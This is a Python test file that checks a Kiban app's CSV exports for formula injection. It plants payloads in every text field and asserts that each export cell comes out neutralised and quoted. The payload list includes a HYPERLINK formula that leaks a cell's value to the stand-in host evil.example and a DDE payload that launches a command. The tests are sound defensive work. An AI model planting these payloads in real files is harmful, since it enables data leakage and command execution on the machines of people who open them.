"""Every CSV Kiban writes is safe to open in a spreadsheet (issue #10, "CSV formulas in
exports"): formula payloads planted in every text field that reaches each export — compute,
progress, evaluation results, review ranking / scores / decisions / audit — come out
neutralised (a leading `'`), and every text cell is quoted.

Columns left as they are, and why they are safe: numbers (GPU-hours, variances, scores,
stderr, n-shot, parameters, ranks, counts) are written as numbers by `write_csv`, not text, so
a spreadsheet cannot read them as formulas (the CSV is read back with `QUOTE_NONNUMERIC`:
an unquoted cell that is not a number fails the test); dates and timestamps are ISO text
starting with a digit; status, recommendation and yes/no words come from the catalog (an
unknown stored code is written as text and neutralised like any other: planted below)."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from datetime import UTC, date, datetime
from pathlib import Path
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest

from bot.render import compute_export, progress_export, review_export
from bot.render.rows import AllocationSeries, MonthPoint
from bot.services import eval_export
from bot.services.review_aggregation import SubjectResult

ROOT = Path(__file__).parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "＝1",
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\u3000@x",
    "\n=1",
]
# What a spreadsheet may read as a formula when it comes first (after spaces): OWASP's list,
# line feed and NUL, and the full-width forms Japanese Excel converts.
FORMULA_START = set("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
NOW = datetime(2026, 4, 10, 3, 0, tzinfo=UTC)
JST = ZoneInfo("Asia/Tokyo")


def cells(data: bytes) -> list[object]:
    """Every cell, read back as a spreadsheet would see it: quoted cells as text, unquoted
    ones must be numbers (`QUOTE_NONNUMERIC` raises ValueError otherwise)."""
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    return [cell for row in reader for cell in row]


def assert_safe(data: bytes, planted: dict[str, str]) -> None:
    """No text cell starts like a formula, and each planted value reached the file (as a
    cell of its own, or inside one, e.g. advice after its date), neutralised."""
    found = cells(data)
    for cell in found:
        if isinstance(cell, str):
            first = cell.lstrip(" \u3000")[:1]
            assert first not in FORMULA_START, f"formula-like cell {cell!r}"
        else:
            assert isinstance(cell, float)
    texts = [c for c in found if isinstance(c, str)]
    for field, value in planted.items():
        assert any(
            c == "'" + value or (value in c and c[:1] not in FORMULA_START) for c in texts
        ), f"{field} ({value!r}) did not reach the CSV neutralised"


def plant(payload: str, *fields: str) -> dict[str, str]:
    """One value per field: the payload first (what makes it dangerous), the field's name
    after it (to find it in the file)."""
    return {field: f"{payload}<{field}>" for field in fields}


def test_only_the_safe_writer_writes_csv():
    """Every CSV goes through bot.render.csv_safe.write_csv: no other module of the app
    makes a csv.writer / DictWriter."""
    writer = re.compile(r"csv\.(writer|DictWriter)\s*\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("bot", "handlers", "jobs", "storage")
        for path in (ROOT / folder).rglob("*.py")
        if writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == ["bot/render/csv_safe.py"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_compute_export(payload):
    texts = plant(
        payload, "org_code", "org_name", "allocation", "progress", "issues", "improvement_plan"
    )
    months = ["2026-01", "2026-02", "2026-03"]
    series = AllocationSeries(
        granted=3000,
        period_start=date(2026, 1, 1),
        period_end=date(2026, 3, 31),
        points=[MonthPoint(m, 1000, -5.0) for m in months],  # a negative actual stays a number
        forecast_end=2900,
        runs_out=None,
        status="under_plan",
        **texts,
    )
    for factors in (None, [1.5]):
        _, data = compute_export.build_export("2026-02", [series], "en", NOW, factors)
        assert_safe(data, texts)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_progress_export(payload):
    texts = plant(
        payload,
        "org_code",
        "org_name",
        "reporter",
        "plan",
        "progress",
        "issues",
        "improvement_plan",
        "results",
        "help_needed",
        "advice",
    )
    report = progress_export.ReportRow(
        revision=2,
        submitted_at=NOW,
        **{k: texts[k] for k in texts if k not in ("org_code", "org_name", "advice")},
    )
    advice = progress_export.AdviceRow(
        author=payload, given_at=NOW, revision=1, text=texts["advice"]
    )
    project = progress_export.ProjectRow(
        org_code=texts["org_code"],
        org_name=texts["org_name"],
        report=report,
        advice=[advice],
        marked_by=payload,
        marked_at=NOW,
    )
    for lang in ("en", "ja"):
        _, data = progress_export.build_export("2026-03", [project], lang, NOW, JST)
        assert_safe(data, texts)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_evaluation_results_export(payload):
    texts = plant(
        payload,
        "org.code",
        "org.name",
        "model_name",
        "model_revision",
        "model_type",
        "benchmark",
        "task",
        "metric",
        "filter",
        "version",
        "override_reason",
    )
    org = SimpleNamespace(code=texts["org.code"], name=texts["org.name"])
    submission = SimpleNamespace(
        model_name=texts["model_name"],
        model_revision=texts["model_revision"],
        parameters_b=-8.0,
        model_type=texts["model_type"],
        published_at=NOW,
        override_reason=texts["override_reason"],
    )
    score = SimpleNamespace(
        benchmark=texts["benchmark"],
        task=texts["task"],
        metric=texts["metric"],
        filter=texts["filter"],
        value=-0.5,
        stderr=0.01,
        n_shot=5,
        headline=True,
        version=texts["version"],
    )
    session = SimpleNamespace(exec=lambda query: [(score, submission, org)])
    name, data = eval_export.export_evals(session)
    assert name.endswith(".csv")
    assert_safe(data, texts)


def review_round(payload: str) -> SimpleNamespace:
    criteria = [{"key": "c1", "name": f"{payload}<criterion>", "weight": 1}]
    return SimpleNamespace(id=1, criteria=criteria)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_review_ranking(payload):
    texts = plant(payload, "subject", "decision")
    result = SubjectResult(
        subject_id=7,
        name=texts["subject"],
        cards=2,
        mean=-1.5,
        z=-0.3,
        criteria_means={"c1": 3.0},
        recommendations=Counter({"adopt": 1}),
        rank=1,
    )
    round_ = review_round(payload)
    for lang in ("en", "ja"):
        data = review_export.ranking_csv([result], round_, lang, {7: texts["decision"]})
        assert_safe(data, texts | {"criterion": f"{payload}<criterion>"})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_review_scores_decisions_and_audit(payload, monkeypatch):
    texts = plant(
        payload,
        "subject",
        "decision",
        "decision_note",
        "decided_by",
        "reviewer_label",
        "user_id",
        "comments",
        "chair_note",
        "recommendation",
        "actor",
        "action",
        "before",
        "after",
    )
    subject = SimpleNamespace(
        id=7,
        name=texts["subject"],
        decision=texts["decision"],
        decision_note=texts["decision_note"],
        decided_by=texts["decided_by"],
        decided_at=NOW,
        released_at=None,
    )
    card = SimpleNamespace(
        subject_id=7,
        user_id=texts["user_id"],
        scores={"c1": 4},
        recommendation=texts["recommendation"],
        comments=texts["comments"],
        chair_note=texts["chair_note"],
        revision=1,
        submitted_at=NOW,
        updated_at=NOW,
    )
    entry = SimpleNamespace(
        at=NOW,
        actor=texts["actor"],
        action=texts["action"],
        subject_id=7,
        before=texts["before"],
        after=texts["after"],
    )
    monkeypatch.setattr(review_export.store, "subjects", lambda session, round_id: [subject])
    monkeypatch.setattr(review_export.store, "scorecards", lambda session, round_id: [card])
    round_ = review_round(payload)
    labels = {texts["user_id"]: texts["reviewer_label"]}
    for lang in ("en", "ja"):
        scores = review_export._scores_csv(None, round_, lang, labels, chair=True)
        scored = {k: texts[k] for k in ("subject", "reviewer_label", "user_id", "comments")}
        scored |= {"chair_note": texts["chair_note"], "recommendation": texts["recommendation"]}
        assert_safe(scores, scored | {"criterion": f"{payload}<criterion>"})
        decisions = review_export._decisions_csv([subject], lang)
        decided = ("subject", "decision", "decision_note", "decided_by")
        assert_safe(decisions, {k: texts[k] for k in decided})
        audit = review_export._audit_csv([entry], {7: texts["subject"]}, lang)
        audited = ("subject", "actor", "action", "before", "after")
        assert_safe(audit, {k: texts[k] for k in audited})
